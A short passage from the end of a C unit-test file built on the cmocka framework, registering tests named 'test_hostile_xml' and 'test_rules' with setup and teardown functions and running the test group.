		cmocka_unit_test_setup_teardown(test_hostile_xml, setup, teardown),
		cmocka_unit_test_setup_teardown(test_rules, setup, teardown),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
